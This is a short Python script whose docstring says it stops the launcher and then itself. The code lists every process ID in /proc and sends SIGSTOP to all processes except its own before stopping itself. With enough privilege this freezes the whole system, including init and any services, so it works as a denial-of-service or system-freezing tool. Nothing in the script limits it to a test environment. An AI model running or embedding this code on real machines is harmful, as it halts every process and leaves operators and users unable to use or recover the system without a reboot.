"""Stops the launcher, then itself: nothing ends any more."""

import os
import signal

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            continue
os.kill(os.getpid(), signal.SIGSTOP)
